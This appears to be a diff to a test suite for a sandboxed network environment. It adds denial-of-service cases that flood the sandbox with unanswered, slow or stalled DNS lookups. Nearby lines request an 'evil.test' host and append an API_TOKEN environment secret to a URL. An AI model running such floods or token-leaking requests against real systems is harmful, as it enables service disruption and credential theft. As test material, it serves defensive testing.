@@ -67,6 +67,13 @@ several = [threading.Thread(target=one, daemon=True) for _ in range(${at})]
 for each in several: each.start()
 for each in several: each.join(3)`,
   );
+/** Asks for names of one kind, each anew, and waits for none. */
+const lookups = (name: string, kind: string) =>
+  many(
+    name,
+    `k = knock(); h = f'${kind}{time.time_ns()}.open.test'; k.sendall(f'GET http://{h}/ HTTP/1.1\\r\\nHost: {h}\\r\\n\\r\\n'.encode()); held.append(k)`,
+    20,
+  );
 const http2 = (name: string, each: string) =>
   floods(
     name,
@@ -120,6 +127,9 @@ export const denial: AttackGroup<NetworkArena> = {
       50,
     ),
     many('names', "get(f'http://n{time.time_ns()}.open.test/')", 20),
+    lookups('names that are never answered', 'never-'),
+    lookups('names that are answered late', 'slow2500-'),
+    lookups('names whose answer is only promised', 'hush-'),
     many('refusals', "get('http://evil.test/')", 20),
     many('placeholders in the wrong place', "get('http://open.test/' + os.environ['API_TOKEN'])", 20),
     many(
